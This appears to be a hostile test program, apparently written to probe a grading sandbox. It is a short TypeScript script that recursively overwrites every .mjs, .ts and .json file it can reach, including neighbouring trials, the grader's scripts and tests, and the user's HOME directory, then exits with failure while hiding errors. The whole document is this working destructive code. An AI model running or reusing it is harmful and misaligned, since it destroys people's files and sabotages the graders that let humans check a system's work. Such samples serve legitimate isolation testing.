// Writes over everything of the grader that it can reach: transformed programs, other trials, HOME, temp files.
import { readdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const own = dirname(process.cwd());
for (const place of [
  dirname(own),
  dirname(dirname(own)),
  process.env.HOME ?? '/',
  '/workbook/scripts',
  '/workbook/test',
]) {
  try {
    for (const entry of readdirSync(place, { recursive: true, withFileTypes: true }))
      if (entry.isFile() && /\.(mjs|ts|json)$/.test(entry.name))
        spoil(join(entry.parentPath, entry.name));
  } catch {
    // Not for us.
  }
}
process.exit(1);

function spoil(path: string): void {
  try {
    writeFileSync(path, "console.log('listening on 127.0.0.1:1');\n");
  } catch {
    // Not for us.
  }
}
